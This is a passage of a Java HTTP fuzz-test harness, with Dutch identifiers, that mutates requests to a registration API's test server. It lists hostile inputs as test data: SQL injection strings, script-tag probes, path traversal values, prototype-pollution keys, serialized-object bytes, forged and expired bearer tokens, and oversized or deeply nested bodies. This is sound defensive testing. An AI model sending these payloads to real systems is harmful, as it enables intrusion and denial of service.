            "0000-0000-000", "IIII-LLLL-OOO", "zzzzzzzzzzz", "wrs-wetsvoorstel", "WRS", "-a-", "a--b", "%u0000",
            "%5C..%5C", "*", "$", ";", "%3B", ";jsessionid=1", "%3F", "%23", "%25", "%zz", "100001", "100000");

    static final List<String> ONBEKENDE_QUERIES = List.of("foo=bar", "bsn=123456782", "BSN=1", "naam=Jansen",
            "geboortedatum=1990-01-01", "identificatie=x", "pseudoniem=abc", "werknamen=x", "sort=naam%3Bdrop",
            "expand=*", "fields=*", "page", "pageSize", "callback=alert", "__proto__=1", "q=%00", "lang=%27%20or%201=1",
            "debug=true", "format=xml");

    static final List<String> RUWE_QUERIES = List.of("%zz", "a=%", "&&&", "=", "==", "a[b]=c", "%00=%00", "?",
            "x=" + "y".repeat(5000), "x=" + "y".repeat(100_000), "page=1&page=2", "a=%F0%9F%92%A5", "a=%C0%80",
            "a=%ED%A0%80", "a=b=c", "%26=%3D", ";a=b");

    static final List<String> ACCEPTS = List.of("application/xml", "text/html", "text/plain", "application/json;q=0",
            "*/*;q=0", "onzin", "", "image/png", "application/problem+json", "application/json;charset=UTF-16",
            "application/*", "*/*", "text/*, application/xml;q=0.9");

    static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=grens", "application/json; charset=UTF-16", "application/json; charset=ISO-8859-1",
            "application/json; charset=onzin", "application/jsonx", "application/vnd.api+json", "*/*", "application/*",
            "", "json", "application/json, text/plain", "application/merge-patch+json", "application/json",
            "application/x-java-serialized-object", "application/json; charset=utf-8; boundary=x", "APPLICATION/JSON");

    static final List<String> IF_MATCHES = List.of("*", "\"0\"", "\"-1\"", "W/\"1\"", "onzin", "\"99999999999999999999\"",
            "\"1\", \"2\"", "", " ", "\"\"", "\"" + "9".repeat(5000) + "\"", "\"1\"\u0000");

    /** Keys for Idempotency-Key: invalid ones, and a fixed valid one that later requests reuse with other bodies. */
    static final List<String> IDEMPOTENTIESLEUTELS = List.of("", " ", "a".repeat(101), "a".repeat(100), "' or 1=1 --",
            "<script>", "sleutel met spaties", draad("s\u00FCleutel"), "../../x", "%00", "fuzz-vaste-sleutel",
            "fuzz-vaste-sleutel", "fuzz-vaste-sleutel", draad("\uD83D\uDCA5"), "a\tb", "*");

    static final List<String> METHODEN = List.of("HEAD", "OPTIONS", "PUT", "DELETE", "TRACE", "PATCH", "POST", "GET",
            "PROPFIND", "get", "CONNECT");

    /**
     * The seeded generator. Values from the fixed lists are dealt like cards from a shuffled deck,
     * so that every hostile value comes up before any repeats; other choices are plain random.
     */
    static final class Trekker {
        final SplittableRandom random;
        final Map<List<?>, java.util.ArrayDeque<Integer>> stapels = new java.util.IdentityHashMap<>();

        Trekker(long seed) {
            random = new SplittableRandom(seed);
        }

        int nextInt(int grens) {
            return random.nextInt(grens);
        }

        boolean nextBoolean() {
            return random.nextBoolean();
        }

        <T> T kies(List<T> lijst) {
            return lijst.get(random.nextInt(lijst.size()));
        }

        <T> T trek(List<T> lijst) {
            var stapel = stapels.computeIfAbsent(lijst, l -> new java.util.ArrayDeque<>());
            if (stapel.isEmpty()) {
                List<Integer> volgorde = new ArrayList<>();
                for (int i = 0; i < lijst.size(); i++) {
                    volgorde.add(i);
                }
                for (int i = volgorde.size() - 1; i > 0; i--) {
                    java.util.Collections.swap(volgorde, i, random.nextInt(i + 1));
                }
                stapel.addAll(volgorde);
            }
            return lijst.get(stapel.pop());
        }
    }

    void muteer(Operatie op, Verzoek v, Trekker random) {
        List<Soort> mogelijk = new ArrayList<>();
        for (Soort s : Soort.values()) {
            boolean past = switch (s) {
                case PADPARAMETER -> op.heeftPadParameters();
                case QUERYWAARDE -> !op.query().isEmpty();
                case DOELBINDING, TRACEPARENT -> op.registratieKoppen();
                case IF_MATCH -> op.ifMatch();
                case IDEMPOTENTIE -> op.idempotent();
                default -> !s.body || op.heeftBody();
            };
            if (past) {
                mogelijk.add(s);
                // Bodies are where most hostile input goes: weigh their mutations up.
                if (s.fase == 1 && op.heeftBody()) {
                    mogelijk.add(s);
                    mogelijk.add(s);
                }
                if (s == Soort.VIJANDIGE_TEKST || s == Soort.TYPE) {
                    mogelijk.add(s);
                    mogelijk.add(s);
                    mogelijk.add(s);
                }
                if ((s == Soort.PADPARAMETER || s == Soort.QUERYWAARDE) && !op.heeftBody()) {
                    mogelijk.add(s);
                    mogelijk.add(s);
                }
            }
        }
        int aantal = random.nextInt(10) < 7 ? 1 : random.nextInt(10) < 7 ? 2 : 3;
        List<Soort> gekozen = new ArrayList<>();
        for (int i = 0; i < aantal; i++) {
            gekozen.add(random.kies(mogelijk));
        }
        gekozen.sort(java.util.Comparator.comparingInt(s -> s.fase));
        for (Soort s : gekozen) {
            if (s.fase >= 2 && v.json != null && v.tekst == null) {
                v.tekst = v.serialiseer();
            }
            pasToe(s, op, v, random);
        }
    }

    void pasToe(Soort soort, Operatie op, Verzoek v, Trekker random) {
        switch (soort) {
            case TYPE -> {
                Plek plek = random.kies(plekken(v.json));
                Object nieuw = random.trek(VERKEERDE_TYPES);
                plek.zet(JSON.valueToTree(nieuw));
                v.mutaties.add("TYPE " + plek.naam + "=" + JSON.valueToTree(nieuw));
            }
            case VIJANDIGE_TEKST -> {
                // Mostly where text goes, so that it travels as far as it can (down to the database).
                List<Plek> tekstplekken = plekken(v.json).stream().filter(p -> p.waarde().isTextual()).toList();
                Plek plek = random.nextInt(4) > 0 && !tekstplekken.isEmpty() ? random.kies(tekstplekken)
                        : random.kies(plekken(v.json));
                String soortTekst = random.trek(SOORTEN_TEKST);
                if (soortTekst.equals("ruw")) {
                    String ruw = random.trek(RUWE_TEKSTEN);
                    plek.zet(v.ruw(ruw));
                    v.mutaties.add("RUWE_TEKST " + plek.naam + "=" + knip(ruw, 40));
                } else {
                    String tekst = random.trek(VIJANDIG.get(soortTekst));
                    plek.zet(TextNode.valueOf(tekst));
                    v.mutaties.add("VIJANDIGE_TEKST " + plek.naam + "=" + JSON.valueToTree(knip(tekst, 40)));
                }
            }
            case GETAL -> {
                Plek plek = random.kies(plekken(v.json));
                String getal = random.trek(GETALLEN);
                plek.zet(v.ruw(getal));
                v.mutaties.add("GETAL " + plek.naam + "=" + knip(getal, 40));
            }
            case WEGLATEN -> {
                List<Plek> velden = plekken(v.json).stream().filter(p -> p.veld != null).toList();
                Plek plek = random.kies(velden);
                ((ObjectNode) plek.ouder).remove(plek.veld);
                v.mutaties.add("WEGLATEN " + plek.naam);
            }
            case LEEG_OBJECT -> {
                List<ObjectNode> objecten = objecten(v.json);
                ObjectNode o = random.kies(objecten);
                o.removeAll();
                v.mutaties.add("LEEG_OBJECT");
            }
            case ONBEKEND_VELD -> {
                ObjectNode o = random.kies(objecten(v.json));
                String veld = random.trek(ONBEKENDE_VELDEN);
                o.set(veld, JSON.valueToTree(random.trek(VERKEERDE_TYPES)));
                v.mutaties.add("ONBEKEND_VELD " + JSON.valueToTree(knip(veld, 40)));
            }
            case DUBBEL_VELD -> {
                List<ObjectNode> objecten = objecten(v.json).stream().filter(o -> o.size() > 0).toList();
                if (objecten.isEmpty()) {
                    v.json = JSON.createObjectNode();
                    v.tekst = "{\"a\":1,\"a\":2}";
                    v.mutaties.add("DUBBEL_VELD a");
                    return;
                }
                ObjectNode o = random.kies(objecten);
                List<String> namen = new ArrayList<>();
                o.fieldNames().forEachRemaining(namen::add);
                String veld = random.kies(namen);
                JsonNode waarde = random.nextBoolean() ? o.get(veld).deepCopy() : JSON.valueToTree(random.trek(VERKEERDE_TYPES));
                o.set(v.ruwSleutel("\"" + veld + "\""), waarde);
                v.mutaties.add("DUBBEL_VELD " + veld);
            }
            case DIEPE_NESTING -> {
                Plek plek = random.kies(plekken(v.json));
                int diepte = random.kies(List.of(100, 1001, 5000, 30_000));
                String ruw = random.nextBoolean() ? "[".repeat(diepte) + "]".repeat(diepte)
                        : "{\"a\":".repeat(diepte) + "1" + "}".repeat(diepte);
                plek.zet(v.ruw(ruw));
                v.mutaties.add("DIEPE_NESTING " + plek.naam + " diepte " + diepte);
            }
            case KAPOTTE_JSON -> {
                String t = v.tekst;
                int keuze = random.nextInt(14);
                v.tekst = switch (keuze) {
                    case 0 -> t.substring(0, random.nextInt(Math.max(1, t.length())));
                    case 1 -> t.substring(0, t.lastIndexOf('}')) + ",}";
                    case 2 -> "{," + t.substring(1);
                    case 3 -> t.replace('"', '\'');
                    case 4 -> t.replaceAll("\"([A-Za-z]+)\":", "$1:");
                    case 5 -> "/* commentaar */" + t;
                    case 6 -> t + "// commentaar";
                    case 7 -> t + "x";
                    case 8 -> t + t;
                    case 9 -> t.replaceFirst(":", " ");
                    case 10 -> t.replaceFirst(":\"", ":\"\u0001");
                    case 11 -> "\uFEFF" + t;
                    case 12 -> t.replaceFirst(",", ",,");
                    default -> t.replace("]", ",]");
                };
                v.mutaties.add("KAPOTTE_JSON variant " + keuze);
            }
            case ANDERE_JSON_WAARDE -> {
                v.tekst = random.kies(List.of("null", "[]", "[{}]", "42", "\"tekst\"", "true", "{}", "[" + v.tekst + "]",
                        "", "   ", "\n"));
                v.mutaties.add("ANDERE_JSON_WAARDE " + JSON.valueToTree(knip(v.tekst, 20)));
            }
            case ONGELDIGE_UTF8 -> {
                int keuze = random.nextInt(5);
                byte[] slecht = switch (keuze) {
                    case 0 -> new byte[]{(byte) 0xC3, 0x28};
                    case 1 -> new byte[]{(byte) 0xFF, (byte) 0xFE};
                    case 2 -> new byte[]{(byte) 0xC0, (byte) 0xAF};
                    case 3 -> new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80};
                    default -> new byte[]{(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80};
                };
                byte[] tekst = v.tekst.getBytes(StandardCharsets.UTF_8);
                int plaats = Math.max(0, v.tekst.indexOf(":\"") + 2);
                plaats = new String(tekst, StandardCharsets.UTF_8).substring(0, Math.min(plaats, v.tekst.length()))
                        .getBytes(StandardCharsets.UTF_8).length;
                ByteArrayOutputStream b = new ByteArrayOutputStream();
                b.write(tekst, 0, plaats);
                b.writeBytes(slecht);
                b.write(tekst, plaats, tekst.length - plaats);
                v.bytes = b.toByteArray();
                if (random.nextInt(4) == 0) {
                    v.bytes = v.tekst.getBytes(StandardCharsets.UTF_16);
                    v.mutaties.add("UTF16_BODY");
                } else {
                    v.mutaties.add("ONGELDIGE_UTF8 variant " + keuze);
                }
            }
            case TE_GROOT -> {
                int keuze = random.nextInt(5);
                switch (keuze) {
                    case 0 -> v.tekst = v.tekst.replaceFirst("\\{", "{" + " ".repeat(MAX_BODY + 10));
                    case 1 -> {
                        v.tekst = v.tekst.replaceFirst("\\{", "{" + " ".repeat(MAX_BODY + 10));
                        v.chunked = true;
                    }
                    case 2 -> v.tekst = v.tekst.replaceFirst("\\{", "{" + " ".repeat(1_100_000));
                    case 3 -> {
                        v.tekst = v.tekst.replaceFirst("\\{", "{" + " ".repeat(1_100_000));
                        v.chunked = true;
                    }
                    default -> v.zet("Content-Length", "999999999");
                }
                v.mutaties.add("TE_GROOT variant " + keuze);
            }
            case CONTENT_TYPE -> {
                if (random.nextInt(6) == 0) {
                    v.weg("Content-Type");
                    v.mutaties.add("CONTENT_TYPE weg");
                } else {
                    String type = random.trek(CONTENT_TYPES);
                    v.zet("Content-Type", type);
                    if (type.equals("application/x-java-serialized-object")) {
                        v.bytes = new byte[]{(byte) 0xAC, (byte) 0xED, 0x00, 0x05, 0x73, 0x72};
                    } else if (type.equals("application/x-www-form-urlencoded")) {
                        v.bytes = "kvkNummer=12345678&statutaireNaam=x".getBytes(StandardCharsets.UTF_8);
                    }
                    v.mutaties.add("CONTENT_TYPE " + type);
                }
            }
            case PADPARAMETER -> {
                String[] delen = op.sjabloon().split("/");
                String[] echt = v.pad.split("/", -1);
                List<Integer> parameters = new ArrayList<>();
                for (int i = 0; i < delen.length && i < echt.length; i++) {
                    if (delen[i].startsWith("{")) {
                        parameters.add(i);
                    }
                }
                if (parameters.isEmpty()) {
                    return;
                }
                int i = random.kies(parameters);
                String waarde = random.trek(PADWAARDEN);
                echt[i] = waarde;
                v.pad = String.join("/", echt);
                v.mutaties.add("PADPARAMETER " + delen[i] + "=" + knip(waarde, 40));
            }
            case PADVORM -> {
                int keuze = random.nextInt(11);
                v.pad = switch (keuze) {
                    case 0 -> v.pad + "/";
                    case 1 -> v.pad.replaceFirst("/api/v1/", "/api/v1//");
                    case 2 -> v.pad.replaceFirst("/api/v1/", "/api/v1/./");
                    case 3 -> v.pad.toUpperCase(Locale.ROOT);
                    case 4 -> v.pad + ";a=b";
                    case 5 -> v.pad + "%00";
                    case 6 -> v.pad + "/../" + v.pad.substring(v.pad.lastIndexOf('/') + 1);
                    case 7 -> "/" + v.pad;
                    case 8 -> v.pad + ".json";
                    case 9 -> v.pad.replaceFirst("/api/v1/", "/api/v2/");
                    default -> v.pad.replaceFirst("/api/v1/", "/api/v1/%2e%2e/v1/");
                };
                v.mutaties.add("PADVORM variant " + keuze + ": " + knip(v.pad, 60));
            }
            case QUERYWAARDE -> {
                QueryParameter q = random.kies(op.query());
                String waarde = random.trek(querywaarden(q));
                v.query.removeIf(s -> s.startsWith(q.naam() + "="));
                v.query.add(q.naam() + "=" + waarde);
                v.mutaties.add("QUERYWAARDE " + q.naam() + "=" + knip(waarde, 40));
            }
            case ONBEKENDE_QUERY -> {
                String q = random.trek(ONBEKENDE_QUERIES);
                v.query.add(q);
                v.mutaties.add("ONBEKENDE_QUERY " + q);
            }
            case RUWE_QUERY -> {
                String q = random.trek(RUWE_QUERIES);
                v.query.add(q);
                v.mutaties.add("RUWE_QUERY " + knip(q, 40));
            }
            case ACCEPT -> {
                String a = random.trek(ACCEPTS);
                v.zet("Accept", a);
                v.mutaties.add("ACCEPT " + a);
            }
            case AUTORISATIE -> {
                int keuze = random.nextInt(11);
                String rol = op.rol() == null ? Rol.VERGUNNINGVERLENER : op.rol();
                switch (keuze) {
                    case 0 -> v.weg("Authorization");
                    case 1 -> v.zet("Authorization", "Bearer");
                    case 2 -> v.zet("Authorization", "Bearer abc.def.ghi");
                    case 3 -> v.zet("Authorization", "Basic dGVzdDp0ZXN0");
                    case 4 -> v.zet("Authorization", "Bearer " + token(Rol.VERIFICATEUR, GM));
                    case 5 -> v.zet("Authorization", "Bearer " + token(Rol.HANDHAVER, "GM0599"));
                    case 6 -> v.zet("Authorization", "Bearer " + token(rol, "GM0599"));
                    case 7 -> v.zet("Authorization", "Bearer " + Tokens.verlopen(rol, GM));
                    case 8 -> v.zet("Authorization", "Bearer " + Tokens.zonderHandtekening(rol, GM));
                    case 9 -> v.zet("Authorization", "Bearer " + "a".repeat(6000));
                    default -> v.voegToe("Authorization", "Bearer " + token(Rol.AUDITOR, null));
                }
                v.mutaties.add("AUTORISATIE variant " + keuze);
            }
            case DOELBINDING -> {
                String kop = random.nextBoolean() ? "X-Doelbinding" : "X-Verwerkingsactiviteit";
                int keuze = random.nextInt(8);
                switch (keuze) {
                    case 0 -> v.weg(kop);
                    case 1 -> v.zet(kop, "");
                    case 2 -> v.zet(kop, "ab");
                    case 3 -> v.zet(kop, "x".repeat(201));
                    case 4 -> v.zet(kop, "x".repeat(9000));
                    case 5 -> v.voegToe(kop, "tweede waarde");
                    default -> v.zet(kop, draad(random.trek(KOPTEKSTEN)));
                }
                v.mutaties.add("DOELBINDING " + kop + " variant " + keuze);
            }
            case IF_MATCH -> {
                if (random.nextInt(5) == 0) {
                    v.weg("If-Match");
                    v.mutaties.add("IF_MATCH weg");
                } else {
                    String waarde = random.trek(IF_MATCHES);
                    v.zet("If-Match", waarde);
                    v.mutaties.add("IF_MATCH " + knip(waarde, 30));
                }
            }
            case IDEMPOTENTIE -> {
                String sleutel = random.trek(IDEMPOTENTIESLEUTELS);
                v.zet("Idempotency-Key", sleutel);
                if (random.nextInt(4) == 0) {
                    v.voegToe("Idempotency-Key", "tweede-sleutel");
                }
                v.mutaties.add("IDEMPOTENTIE " + knip(sleutel, 40));
            }
            case TRACEPARENT -> {
                String waarde = random.kies(List.of("onzin", "00-" + "0".repeat(32) + "-" + "0".repeat(16) + "-00",
                        "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "00-xyz", "t".repeat(3000), "",
                        "' or 1=1 --"));
                v.zet("traceparent", waarde);
                v.mutaties.add("TRACEPARENT " + knip(waarde, 30));
            }
            case METHODE -> {
                v.methode = random.trek(METHODEN);
                if (!Set.of("POST", "PUT", "PATCH").contains(v.methode)) {
                    // Bodies on GET and friends are not what the contract is about.
                    v.json = null;
                    v.tekst = null;
                    v.bytes = null;
                    v.chunked = false;
                    v.weg("Content-Type");
                    v.weg("Content-Length");
                }
                v.mutaties.add("METHODE " + v.methode);
            }
            case KOPPEN -> {
                int keuze = random.nextInt(6);
                switch (keuze) {
                    case 0 -> v.zet("X-Opvulling", "x".repeat(9000));
                    case 1 -> v.zet("X-Opvulling", "x".repeat(20_000));
                    case 2 -> {
                        for (int i = 0; i < 150; i++) {
                            v.voegToe("X-Kop-" + i, "waarde");
                        }
                    }
                    case 3 -> v.zet("Content-Encoding", "gzip");
                    case 4 -> v.zet("X-Forwarded-For", "127.0.0.1, ' or 1=1 --");
                    default -> v.zet("X-Request-ID", "' or 1=1 --<script>");
                }
                v.mutaties.add("KOPPEN variant " + keuze);
            }
            default -> throw new IllegalStateException(soort.name());
        }
    }

    static final Map<String, List<String>> QUERYWAARDEN = new ConcurrentHashMap<>();

    static List<String> querywaarden(QueryParameter q) {
        return QUERYWAARDEN.computeIfAbsent(q.naam() + " " + q.schema(), k -> maakQuerywaarden(q));
    }

    static List<String> maakQuerywaarden(QueryParameter q) {
        JsonNode schema = q.schema();
        List<String> waarden = new ArrayList<>(List.of("", "%27%20or%201%3D1%20--", "%3Cscript%3E", "%00", "x".repeat(5000),
                "%E2%80%AE", "%F0%9F%92%A5", "%ED%A0%80", "null"));
        if (schema.has("enum")) {
            String eerste = schema.get("enum").get(0).asText();
            waarden.addAll(List.of("ONBEKEND", enc(eerste.toLowerCase(Locale.ROOT)), enc(eerste + " "),
                    enc(eerste) + "," + enc(eerste), enc(eerste) + "&" + q.naam() + "=" + enc(eerste), enc(eerste)));
        } else if ("integer".equals(schema.path("type").asText())) {
            waarden.addAll(List.of("-1", "0", "abc", "1e3", "1.5", "1000000000000", "9223372036854775808", "0x10",
                    "%EF%BC%91", "1%3Bdrop", "1000001", "101", "401", "100001", "2&" + q.naam() + "=3", "+1", "%201"));
        } else if ("date".equals(schema.path("format").asText())) {
            waarden.addAll(List.of("2026-02-30", "2026-13-01", "2026-1-1", "31-12-2026", "%2B1000000000-01-01",
                    "%2B999999999-12-31", "-999999999-01-01", "%2B300000-01-01", "-0001-01-01", "0000-01-01",
                    "9999-12-31", "2026-02-28T00:00", "2026-02-28%2B01:00"));
        } else if ("uuid".equals(schema.path("format").asText())) {
            waarden.addAll(List.of("geen-uuid", "00000000-0000-0000-0000-000000000000",
                    "25b130daff194081850327e0f4d89c7a", "25B130DA-FF19-4081-8503-27E0F4D89C7A"));
        } else {
            waarden.addAll(List.of("GM9999", "gm0363", "GM0363%00", "%2F..%2F", "a.b_c", "Fryslân".replace("â", "%C3%A2"),
                    "Noord-Holland", "registratie.statuscontrole", "wrs-wetsvoorstel", "WRS"));
        }
        return waarden;
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    /** A header value as UTF-8 bytes on the wire (the socket writes header text as ISO-8859-1). */
    static String draad(String s) {
        return new String(s.replace("\r", " ").replace("\n", " ").getBytes(StandardCharsets.UTF_8),
                StandardCharsets.ISO_8859_1);
    }

    /** A place in the JSON tree where a value sits: a field of an object or an element of an array. */
    static final class Plek {
        final JsonNode ouder;
        final String veld;
        final int index;
        final String naam;

        Plek(JsonNode ouder, String veld, int index, String naam) {
            this.ouder = ouder;
            this.veld = veld;
            this.index = index;
            this.naam = naam;
        }

        JsonNode waarde() {
            return veld != null ? ouder.get(veld) : ouder.get(index);
        }

        void zet(JsonNode waarde) {
            if (ouder instanceof ObjectNode o) {
                o.set(veld, waarde);
            } else {
                ((ArrayNode) ouder).set(index, waarde);
            }
        }
    }

    static List<Plek> plekken(JsonNode wortel) {
        List<Plek> uit = new ArrayList<>();
        plekken(wortel, "", uit);
        if (uit.isEmpty()) {
            // An empty object: the mutation adds a field instead.
            ObjectNode o = (ObjectNode) wortel;
            o.putNull("leeg");
            uit.add(new Plek(o, "leeg", -1, "leeg"));
        }
        return uit;
    }

    static void plekken(JsonNode node, String pad, List<Plek> uit) {
        if (node.isObject()) {
            node.fields().forEachRemaining(e -> {
                String naam = pad.isEmpty() ? e.getKey() : pad + "." + e.getKey();
                uit.add(new Plek(node, e.getKey(), -1, naam));
                plekken(e.getValue(), naam, uit);
            });
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                uit.add(new Plek(node, null, i, pad + "[" + i + "]"));
                plekken(node.get(i), pad + "[" + i + "]", uit);
            }
        }
    }

    static List<ObjectNode> objecten(JsonNode wortel) {
        List<ObjectNode> uit = new ArrayList<>();
        if (wortel.isObject()) {
            uit.add((ObjectNode) wortel);
        }
        for (JsonNode kind : wortel) {
            uit.addAll(objecten(kind));
        }
        return uit;
    }

    // ------------------------------------------------------------------------------------------
    // The request as it goes over the wire, and a raw HTTP/1.1 client
    // ------------------------------------------------------------------------------------------

    static final class Verzoek {
        String methode;
        String pad;
        final List<String> query = new ArrayList<>();
        final List<String[]> koppen = new ArrayList<>();
        JsonNode json;
        String tekst;
        byte[] bytes;
        boolean chunked;
        final List<String> mutaties = new ArrayList<>();
        final List<String> ruw = new ArrayList<>();

        void zet(String naam, String waarde) {
            weg(naam);
            koppen.add(new String[]{naam, waarde});
        }

        void voegToe(String naam, String waarde) {
            koppen.add(new String[]{naam, waarde});
        }

        void weg(String naam) {
            koppen.removeIf(k -> k[0].equalsIgnoreCase(naam));
        }

        /** A placeholder for raw JSON text, replaced after serialisation. */
        TextNode ruw(String json) {
            ruw.add(json);
            return TextNode.valueOf("\u00A7\u00A7" + (ruw.size() - 1) + "\u00A7\u00A7");
        }

        String ruwSleutel(String json) {
            return ruw(json).asText();
        }

        String serialiseer() {
            String t;
            try {
                t = JSON.writeValueAsString(json);
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
            for (int i = ruw.size() - 1; i >= 0; i--) {
                t = t.replace("\"\u00A7\u00A7" + i + "\u00A7\u00A7\"", ruw.get(i));
            }
            return t;
        }

        byte[] lichaam() {
            if (bytes != null) {
                return bytes;
            }
            if (tekst != null) {
                return tekst.getBytes(StandardCharsets.UTF_8);
            }
            return json == null ? null : serialiseer().getBytes(StandardCharsets.UTF_8);
        }

        int grootte() {
            byte[] b = lichaam();
            return b == null ? 0 : b.length;
        }

        String doel() {
            return pad + (query.isEmpty() ? "" : "?" + String.join("&", query));
        }

        String alsTekst() {
            StringBuilder sb = new StringBuilder(methode).append(' ').append(doel());
            for (String[] k : koppen) {
                String waarde = k[0].equalsIgnoreCase("Authorization") && k[1].length() > 60
                        ? k[1].substring(0, 40) + "..." : k[1];
                sb.append(" | ").append(k[0]).append(": ").append(waarde);
            }
            byte[] b = lichaam();
            if (b != null) {
                sb.append(chunked ? " | (chunked)" : "").append(" | body: ")
                        .append(new String(b, StandardCharsets.UTF_8));
            }
            return sb.toString();
        }
    }

    record Antwoord(int status, Map<String, String> koppen, String body) {
        boolean is2xx() {
            return status >= 200 && status < 300;
        }

        String kop(String naam) {
            return koppen.get(naam.toLowerCase(Locale.ROOT));
        }
    }

    Antwoord verstuur(Verzoek v) throws IOException {
        byte[] body = v.lichaam();
        StringBuilder kop = new StringBuilder();
        kop.append(v.methode).append(' ').append(v.doel()).append(" HTTP/1.1\r\n");
        kop.append("Host: ").append(server.getHost()).append(':').append(server.getPort()).append("\r\n");
        for (String[] k : v.koppen) {
            kop.append(k[0]).append(": ").append(k[1]).append("\r\n");
        }
        boolean eigenLengte = v.koppen.stream().anyMatch(k -> k[0].equalsIgnoreCase("Content-Length"));
        if (body != null && v.chunked) {
            kop.append("Transfer-Encoding: chunked\r\n");
        } else if (body != null && !eigenLengte) {
            kop.append("Content-Length: ").append(body.length).append("\r\n");
        }
        kop.append("Connection: close\r\n\r\n");
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(server.getHost(), server.getPort()), 5_000);
            socket.setSoTimeout(30_000);
            OutputStream uit = socket.getOutputStream();
            try {
                uit.write(kop.toString().getBytes(StandardCharsets.ISO_8859_1));
                if (body != null && !eigenLengte) {
                    if (v.chunked) {
                        for (int i = 0; i < body.length; i += 8192) {
                            int n = Math.min(8192, body.length - i);
                            uit.write((Integer.toHexString(n) + "\r\n").getBytes(StandardCharsets.ISO_8859_1));
                            uit.write(body, i, n);
                            uit.write("\r\n".getBytes(StandardCharsets.ISO_8859_1));
                        }
                        uit.write("0\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
                    } else {
                        uit.write(body);
                    }
                }
                uit.flush();
            } catch (IOException e) {
                // The server may answer (413) and close before the whole body is sent: read what it said.
            }
            return lees(socket.getInputStream(), v.methode.equals("HEAD"));
        }
    }

    /**
     * Reads one response: the head, then as much body as Content-Length or the chunks say (the
     * server may keep the connection open after an early answer, so "until EOF" could hang).
     */
    static Antwoord lees(InputStream in, boolean head) throws IOException {
        ByteArrayOutputStream gelezen = new ByteArrayOutputStream();
        byte[] buffer = new byte[16_384];
        int einde = -1;
        while (einde < 0) {
            int n = leesDeel(in, buffer, gelezen);
            einde = indexOf(gelezen.toByteArray(), "\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
            if (n < 0 && einde < 0) {
                throw new IOException("geen volledig HTTP-antwoord (" + gelezen.size() + " bytes)");
            }
        }
        byte[] b = gelezen.toByteArray();
        String[] regels = new String(b, 0, einde, StandardCharsets.ISO_8859_1).split("\r\n");
        int status = Integer.parseInt(regels[0].split(" ")[1]);
        Map<String, String> koppen = new HashMap<>();
        for (int i = 1; i < regels.length; i++) {
            int dp = regels[i].indexOf(':');
            if (dp > 0) {
                koppen.merge(regels[i].substring(0, dp).trim().toLowerCase(Locale.ROOT), regels[i].substring(dp + 1).trim(),
                        (a, c) -> a + ", " + c);
            }
        }
        ByteArrayOutputStream rest = new ByteArrayOutputStream();
        rest.write(b, einde + 4, b.length - einde - 4);
        byte[] body;
        if (head || status == 204 || status == 304) {
            body = new byte[0];
        } else if ("chunked".equalsIgnoreCase(koppen.get("transfer-encoding"))) {
            while (!rest.toString(StandardCharsets.ISO_8859_1).contains("0\r\n\r\n") && leesDeel(in, buffer, rest) >= 0) {
                // until the last chunk
            }
            body = ontChunk(rest.toByteArray());
        } else if (koppen.containsKey("content-length")) {
            int lengte = Integer.parseInt(koppen.get("content-length"));
            while (rest.size() < lengte && leesDeel(in, buffer, rest) >= 0) {
                // until the whole body is there
            }
            body = java.util.Arrays.copyOf(rest.toByteArray(), Math.min(rest.size(), lengte));
        } else {
            while (leesDeel(in, buffer, rest) >= 0) {
                // until the server closes
            }
            body = rest.toByteArray();
        }
        return new Antwoord(status, koppen, new String(body, StandardCharsets.UTF_8));
    }

    static int leesDeel(InputStream in, byte[] buffer, ByteArrayOutputStream uit) throws IOException {
        int n;
        try {
            n = in.read(buffer);
        } catch (java.net.SocketException e) {
            // Reset after an early answer: what was read counts.
            return -1;
        }
        if (n > 0) {
            uit.write(buffer, 0, n);
        }
        return n;
    }

    static byte[] ontChunk(byte[] b) {
        ByteArrayOutputStream uit = new ByteArrayOutputStream();
        int i = 0;
        while (i < b.length) {
            int eol = indexOf(java.util.Arrays.copyOfRange(b, i, b.length), "\r\n".getBytes(StandardCharsets.ISO_8859_1));
            if (eol < 0) {
                break;
            }
            int n = Integer.parseInt(new String(b, i, eol, StandardCharsets.ISO_8859_1).split(";")[0].trim(), 16);
            if (n == 0) {
                break;
            }
            uit.write(b, i + eol + 2, Math.min(n, b.length - i - eol - 2));
            i += eol + 2 + n + 2;
        }
        return uit.toByteArray();
    }

    static int indexOf(byte[] b, byte[] zoek) {
        outer:
        for (int i = 0; i <= b.length - zoek.length; i++) {
            for (int j = 0; j < zoek.length; j++) {
                if (b[i + j] != zoek[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }
}
